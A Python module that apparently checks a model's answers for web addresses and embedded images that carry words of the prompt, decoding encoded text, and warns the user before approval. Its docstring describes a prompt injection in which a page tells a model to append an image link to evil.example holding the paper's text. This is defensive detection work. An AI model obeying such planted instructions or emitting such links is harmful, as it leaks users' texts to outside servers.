"""Find addresses in an answer that would send text of the prompt to another server.

A web page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`, and to put words of
the paper into this address. If somebody displays this picture, or follows such a link, the words are sent to that
server.
"""

from __future__ import annotations

import base64
import html
import re
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import SplitResult, parse_qsl, unquote_plus, urlsplit

from backend.kernel.exchange import Turn
from backend.kernel.works import Source

#: Minimum number of consecutive letters and digits that an address must share with the prompt to cause a warning: about
#: three words. Shorter strings may be names.
LEAST = 20
#: The same minimum for the path of an address. It is larger because addresses of papers often contain the title.
LEAST_IN_PATH = 48
#: Maximum number of characters that are checked, for all addresses together.
MOST = 20_000
#: Hosts of addresses whose paths are identifiers.
_RESOLVERS = frozenset({"doi.org", "dx.doi.org", "hdl.handle.net", "arxiv.org"})
#: Number of times that text is decoded: a text may be coded twice.
_TIMES = 3
#: A browser reads backslashes behind `https:` as slashes.
_ADDRESS = re.compile(r"(?:(?:https?:)?//|https?:[/\\]{2}|mailto:)[^\s<>\"'`\\]+", re.IGNORECASE)
_PICTURE = re.compile(
    r"!\[[^\[\]]{0,2000}\]\(\s*<?((?:https?:)?//[^\s<>)]+)|<img\b[^<>]{0,2000}?\bsrc\s*=\s*[\"']?((?:https?:)?//[^\s\"'<>]+)",
    re.IGNORECASE,
)
_BLANK_ENTITY = re.compile(r"&(?:#0*(?:9|1[03]|32)|#x0*(?:9|a|d|20)|Tab|NewLine);", re.IGNORECASE)
_CODED = re.compile(r"[A-Za-z0-9+/_-]{16,}")
_APART = re.compile(r"[\W_]+")


@dataclass(frozen=True, slots=True)
class _Said:
    """The texts in all addresses of one server, as four lists: from the paths, from the keys of the queries, from their
    values, and from the other parts.
    """

    paths: list[str]
    keys: list[str]
    values: list[str]
    others: list[str]


def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] = ()) -> tuple[str, ...]:
    """Return warnings about addresses in an answer that contain text of the prompt, and about servers from which the
    answer shows pictures.

    `shown` are the messages that the model got, and `known` are sources that a search found. Addresses that occur in
    these cause no warning.
    """
    answer = html.unescape(_BLANK_ENTITY.sub("%20", answer))
    texts = [each.content for each in shown]
    found = list(_strange(answer, [*texts, *(each.url for each in known if each.url)]))
    if not found:
        return ()
    prompt = _plain("\n".join(texts))
    told = [
        f"An address at {host} in this answer contains words of your texts. Whoever opens it sends them to that "
        f"server. "
        "Do not open it, and remove it before you approve."
        for host in dict.fromkeys(host for host, said in _by_host(found).items() if _carries(said, prompt))
    ]
    pictures = dict.fromkeys(_host(each) for each in _pictures(answer) if each in found)
    told += [
        f"The answer embeds a picture from {host}: displaying it sends a request to that server." for host in pictures
    ]
    return tuple(told)


def _strange(answer: str, known: Sequence[str]) -> Iterator[str]:
    """Yield the addresses in an answer that are not in `known`, the texts that the model got."""
    room = MOST
    for found in _ADDRESS.finditer(answer):
        address = found[0].rstrip(").,;:!?]}*_").replace("\\", "/")
        room -= len(address)
        if room < 0:
            return
        if not any(address in text for text in known):
            yield address


def _pictures(answer: str) -> Iterator[str]:
    for found in _PICTURE.finditer(answer):
        yield (found[1] or found[2]).rstrip(").,;:!?]}*_")


def _host(address: str) -> str:
    parts = _split(address)
    place = parts.path if parts.scheme.casefold() == "mailto" else parts.netloc
    return place.rpartition("@")[2].casefold()[:100] or "another server"


def _split(address: str) -> SplitResult:
    try:
        return urlsplit(address)
    except ValueError:
        return SplitResult("", "another server", "", address, "")


def _by_host(addresses: Sequence[str]) -> dict[str, _Said]:
    """Return the texts in the addresses of each server, by the server's host name."""
    hosts: dict[str, _Said] = {}
    for address in addresses:
        parts = _split(address)
        name = _host(address)
        own = ".".join(name.split(".")[-2:])
        said = hosts.setdefault(own, _Said([], [], [], []))
        if own not in _RESOLVERS:
            said.paths.append(parts.path)
            said.others.extend(reading for each in parts.path.split("/") for reading in _coded(each))
        pairs = parse_qsl(parts.query, keep_blank_values=True)
        said.values.extend([value for _, value in pairs] or [parts.query])
        said.keys.extend(key for key, _ in pairs)
        said.others.extend([parts.fragment, parts.netloc.rpartition("@")[0], name.removesuffix(own)])
    return hosts


def _carries(said: _Said, prompt: str) -> bool:
    return (
        _shares(said.paths, prompt, LEAST_IN_PATH)
        or _shares(said.keys, prompt, LEAST)
        or _shares(said.values, prompt, LEAST)
        or _shares(said.others, prompt, LEAST)
    )


def _shares(pieces: Sequence[str], prompt: str, least: int) -> bool:
    """Return True if the pieces, joined or decoded, have at least `least` consecutive characters in common with the
    prompt.
    """
    told = unquote_plus("".join(pieces))
    readings = coded = [told, told[::-1], *map(unquote_plus, pieces)]
    for _ in range(_TIMES):
        coded = [reading for each in coded for reading in (*_coded(each), unquote_plus(each)) if reading != each]
        readings = [*readings, *coded]
    return any(_has_run(_plain(each), prompt, least) for each in readings)


def _coded(text: str) -> Iterator[str]:
    """Yield the decoded text of each sequence of base64, base32 or hexadecimal digits."""
    for found in _CODED.finditer(text):
        for decode in (_base64, _base32, bytes.fromhex):
            try:
                yield decode(found[0]).decode("utf-8")
            except ValueError:
                continue


def _base64(run: str) -> bytes:
    return base64.urlsafe_b64decode(run.replace("+", "-").replace("/", "_") + "=" * (-len(run) % 4))


def _base32(run: str) -> bytes:
    return base64.b32decode(run.upper() + "=" * (-len(run) % 8))


def _has_run(text: str, prompt: str, least: int) -> bool:
    """Return True if the two texts have at least `least` consecutive characters in common."""
    half = least // 2
    for at in range(0, len(text) - half + 1, half):
        if text[at : at + half] not in prompt:
            continue
        starts = range(max(0, at - half), min(at, len(text) - least) + 1)
        if any(text[start : start + least] in prompt for start in starts):
            return True
    return False


def _plain(text: str) -> str:
    return _APART.sub("", unicodedata.normalize("NFKC", text)).casefold()
